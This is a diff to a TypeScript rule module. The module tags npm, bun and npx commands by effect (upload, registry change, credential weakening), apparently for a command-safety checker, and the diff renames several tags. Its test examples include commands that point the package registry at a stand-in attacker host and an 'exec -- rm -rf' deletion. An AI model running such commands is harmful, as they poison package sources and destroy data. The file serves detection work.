@@ -2,8 +2,8 @@ import type { Call, CommandDescriptor, Family, Finding, FixedEffect, OptionTable
 import { does, harmless, projectCode, sharing } from './shapes.ts';
 
 const installs: FixedEffect = { kind: 'network', target: 'network:download', tags: ['package_scripts'] };
-const publishes: FixedEffect = { kind: 'network', target: 'network:upload', tags: ['shares', 'remote_write'] };
-const registry: FixedEffect = { kind: 'configure', target: 'package:registry', tags: ['remote_write'] };
+const publishes: FixedEffect = { kind: 'network', target: 'network:upload', tags: ['shares', 'remote_change'] };
+const registry: FixedEffect = { kind: 'configure', target: 'package:registry', tags: ['remote_change'] };
 const loggedIn: FixedEffect = { kind: 'configure', target: 'credential:npm', tags: ['weakens'] };
 
 /** A source of packages other than the usual ones. */
@@ -45,8 +45,8 @@ function settingFindings({ operands }: Call): readonly Finding[] {
   if (key === 'delete' || (value === '' && !RUNS_SOMETHING.test(key))) return [];
   const target = `package_setting:${key}`;
   if (/registry$|npmRegistryServer|npmRegistries/.test(key) && !ownRegistry.test(value))
-    return [{ kind: 'configure', target, tags: ['poisons'] }];
-  if (RUNS_SOMETHING.test(key)) return [{ kind: 'configure', target, tags: ['poisons'] }];
+    return [{ kind: 'configure', target, tags: ['tampered_environment'] }];
+  if (RUNS_SOMETHING.test(key)) return [{ kind: 'configure', target, tags: ['tampered_environment'] }];
   if (/^(?:strict-ssl|enableStrictSsl|ignore-scripts|audit)$/.test(key) && value === 'false')
     return [{ kind: 'configure', target, tags: key === 'strict-ssl' || key === 'enableStrictSsl' ? ['weakens'] : [] }];
   return /_auth|token|password/i.test(key) ? [{ kind: 'configure', target, tags: ['weakens'] }] : [{ kind: 'configure', target }];
@@ -85,16 +85,16 @@ const shared: Readonly<Record<string, () => CommandDescriptor>> = {
 
 const examples = (name: string): Pick<ProgramDescriptor, 'match' | 'notMatch'> => ({
   match: {
-    [`${name} publish`]: 'network upload #remote_write #shares',
-    [`${name} config set registry https://evil.example`]: 'configure #poisons',
+    [`${name} publish`]: 'network upload #remote_change #shares',
+    [`${name} config set registry https://evil.example`]: 'configure #tampered_environment',
     [`${name} install --registry=http://evil.example x`]: 'configure #weakens',
     [`${name} exec -- rm -rf a`]: 'delete /w/a/**',
     [`${name} install x`]: 'network download #package_scripts',
-    [`${name} unpublish x`]: 'configure #remote_write',
+    [`${name} unpublish x`]: 'configure #remote_change',
   },
   notMatch: {
-    [`${name} run build -- --force`]: 'unknown; * #destructive; * #remote_write',
-    [`${name} install --save-dev x`]: 'unknown; * #remote_write; * #weakens',
+    [`${name} run build -- --force`]: 'unknown; * #destructive; * #remote_change',
+    [`${name} install --save-dev x`]: 'unknown; * #remote_change; * #weakens',
     [`${name} test`]: 'unknown; network',
     [`${name} publish --dry-run`]: '* #shares',
     [`${name} config get registry`]: 'configure; * #secret',
@@ -144,7 +144,7 @@ const bun = (): ProgramDescriptor => ({
   effects: [projectCode],
   operands: { first: [{ as: 'execute', language: 'javascript' }] },
   match: { 'bun publish': 'network #shares', 'bun x rimraf src': 'delete', 'bun a.ts': 'execute a.ts' },
-  notMatch: { 'bun run build': 'unknown', 'bun install': 'unknown; * #remote_write' },
+  notMatch: { 'bun run build': 'unknown', 'bun install': 'unknown; * #remote_change' },
 });
 
 const npx = (): ProgramDescriptor => ({
